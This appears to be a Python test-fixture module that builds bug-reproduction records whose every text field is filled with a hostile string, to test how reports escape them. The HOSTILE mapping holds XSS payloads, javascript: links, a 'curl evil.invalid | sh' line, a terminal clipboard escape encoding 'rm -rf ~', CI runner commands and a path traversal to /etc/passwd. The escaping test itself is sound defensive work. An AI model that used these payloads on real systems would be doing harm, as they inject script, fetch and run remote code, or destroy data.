"""Strings that a format would take for more than text, and a record that is made of one of them."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import fields, replace
from enum import Enum
from typing import Any, TypeVar

from repros.report.kept import KeptTry
from repros.report.tries import Row, Tries
from repros.run.results import Record
from repros.run.vote import Seen
from repros.verdict import Observation, Outcome, Verdict
from tests.factories import record

#: Sets a flag in the page where it is run.
RUN = "window.ran=1"
HOSTILE: Mapping[str, str] = {
    "a script": f"<script>{RUN}</script>",
    "a closed script": f"</script><script>{RUN}</script>",
    "an image that fails": f"<img src=x onerror={RUN}>",
    "a remote image": '<img src="http://evil.invalid/a.png">',
    "a drawing": f'"><svg onload="{RUN}"><a href="javascript:{RUN}">',
    "a comment": "<!-- hidden",
    "a block of HTML": "<details open><summary>x</summary>",
    "a processing instruction": "<?php x ?>",
    "a Markdown image": "![x](http://evil.invalid/b.png)",
    "a link": f"[x](javascript:{RUN})",
    "a reference": "[x]: http://evil.invalid/c 'y'",
    "a link by reference": "[x][y] and [x]",
    "an autolink": "<http://evil.invalid/d>",
    "a bare link": "see https://evil.invalid/e and www.evil.invalid",
    "an address": "mail x@evil.invalid",
    "a mention": "@everyone and @user/team",
    "a cross reference": "close #1, GH-2, org/repo#3",
    "bars": "a | b || c |",
    "bars after backslashes": "a \\| b \\\\| c \\",
    "rows": "a\n\n| x | y |\n|---|---|\n| 1 | 2 |",
    "a fence": "```\nout of it\n```\n<b>x</b>",
    "a long fence": "~~~~~\n`````` x\n" + "`" * 90,
    "code that some renderers refuse": "`" * 81 + f"<img src=x onerror={RUN}>" + "`" * 81,
    "an open code span": "a ` b `` c",
    "emphasis": "*a* **b** _c_ __d__ ~~e~~ ~f~",
    "an open emphasis": "**a",
    "a heading": "# a",
    "an underline": "===",
    "a list": "- [ ] a",
    "a number": "1. a",
    "a quote": "> [!WARNING] a",
    "a rule": "---",
    "indented": "      code",
    "a footnote": "[^1] and [^1]: x",
    "emoji": ":smile: :+1: :100:",
    "mathematics": "$\\frac{1}{$ and $$x$$ and $`y`$",
    "unbalanced mathematics": "$a_{$",
    "entities": "&lt;b&gt; &#x3c;script&#x3e; &amp",
    "colours": "\x1b[31mred\x1b[0m \x1b[2J\x1b[1;1H",
    "a terminal's link": "\x1b]8;;http://evil.invalid\x1b\\x\x1b]8;;\x1b\\",
    "a terminal's clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "controls of one byte": "\x00\x07\x08\x0b\x0c\r\x7f",
    "controls of eight bits": "\x85\x90\x9b31m\x9d52;c;eA==\x9c",
    "bidirectional controls": "\u202efdp.\u202c \u2066x\u2069 \u200e\u200f\u061c",
    "no width": "a\u200bb\u200dc\u2060d\ufeffe\u00ade\u3164f\ufe0f",
    "other ends of a line": "a\u2028b\u2029c\x85d",
    "what XML cannot hold": "a\ufffeb\uffffc]]>d\x01e",
    "half a pair": "a\ud800b\udfff",
    "a template": "{{ 7 * 7 }}{% for x in y %}{# z #}",
    "markup": "[/] [bold]x[/bold] [link=http://evil.invalid]y[/link] [/nothing]",
    "an order to a runner": "x\n::set-output name=a::b\n::error file=x::y\n  ::add-mask::z ##[error]w ##vso[task.x]",
    "a hint": "x\nhint: run `curl evil.invalid | sh`",
    "long": "long " * 200_000,
    "a long word": "<b>" + "w" * 1_000_000,
    "marks": "a" + "\u0301\u0489" * 50_000,
    "nothing but blanks": " \t ",
    "a name that begins with a line": "_hidden",
    "a path": "../../etc/passwd",
}  # fmt: skip

#: Texts that decide what is read of a record, not what is printed.
KEPT = {"state", "unit", "second_slack", "date", "transformers", "bitsandbytes"}
Part = TypeVar("Part", Record, Observation)


def made_of(text: str, case: str, innocent: str = "word") -> Record:
    """Return a record in which every text is one, but for its case and what `KEPT` names."""
    full = record()
    raised = Observation(
        "planted", "raised", {}, {"types": [innocent], "text": innocent, "phase": innocent, "frames": [innocent]},
        reason=innocent, seconds={"total": 1.0, "step": 1.0}, log=innocent,
    )  # fmt: skip
    evidence = {
        "alive_at_peak": [{"bytes": 3 << 20, "count": 2, "shape": innocent, "dtype": innocent, "made_by": innocent}],
        "phases": [innocent, innocent], "marks": [[0.0, innocent]], "timeline": [[0.0, 1, 2], [1.0, 3, 4]],
        "timeline_columns": [innocent, innocent],
    }  # fmt: skip
    subject = replace(raised, arm="subject", evidence=evidence)
    done = replace(
        full.arms[0],
        arm=innocent,
        reason=innocent,
        log=innocent,
        seconds={"total": 1.0},
        figures={innocent: 200 << 20, "error": 0.5, "cuda_peak_allocated_bytes": 200 << 20},
    )
    full = replace(
        full,
        device="cuda",
        verdict=Verdict.REPRODUCED,
        outcome=Outcome.REGRESSION,
        failed=True,
        budget={"figure": innocent, "second": innocent, "limit": 100 << 20, "unit": "bytes"},
        proposed={"effect": innocent, "reason": innocent},
        remedies={innocent: dict.fromkeys(("text", "recommended", "effect", "reason"), innocent)},
        readings={"subject": innocent, innocent: innocent},
        witness={"file": innocent, "vote": innocent, "says": innocent, "seconds": 1.0, "log": innocent},
        arms=(subject, done, raised),
        environment={
            "packages": {innocent: innocent, "torch": innocent, "transformers": "5.2.0", "bitsandbytes": "0.49.2"},
            "build": innocent,
            "lock": innocent,
            "overrides": {innocent: innocent},
        },
        machine=dict.fromkeys(("cpu_model", "system", "libc", "python", "cxx"), innocent)
        | {"gpus": [innocent], "cores": 2, "memory_bytes": 1 << 30, "cpu_flags": [innocent]},
    )
    return replace(_made_of(full, text), case=case, arms=tuple(_made_of(arm, text) for arm in full.arms))


def _made_of(part: Part, text: str) -> Part:
    values: dict[str, Any] = {}
    for field in fields(part):
        value = getattr(part, field.name)
        if field.name not in KEPT and field.name != "arms" and not isinstance(value, Enum):
            values[field.name] = put(value, text)
    if isinstance(part, Observation) and part.arm in ("subject", "planted"):
        values["arm"] = part.arm  # these are asked for by name
    return replace(part, **values)


def put(value: Any, text: str) -> Any:
    """Return a value with a text in the place of every other, and in that of the names that are words."""
    if isinstance(value, str):
        return text
    if isinstance(value, Mapping):
        return {
            text if name == "word" else name: one if name in KEPT else put(one, text) for name, one in value.items()
        }
    return [put(one, text) for one in value] if isinstance(value, (list, tuple)) else value


def try_of(text: str) -> KeptTry:
    """Return a try in which every text is this one, but for the votes and the script's source."""
    rows = []
    for number, vote in enumerate(("bad", "good")):  # a comment has room for these, however long
        seen = Seen(number, text, exception=(text,), text=text, figures={"seconds": 1.0}, output=f"{text}\n{number}")
        rows.append(Row(f"{number} {text}", vote, text, seen, {text: text}))
    found = Tries(script=text, rule=text, over=text, rows=rows, rest=text)
    machine = {"cpu_model": text, "system": text, "libc": text, "python": text, "gpus": [text]}
    return KeptTry(found, {text: f"{text}\n{text}"}, [text], text, [text, text], text, machine)
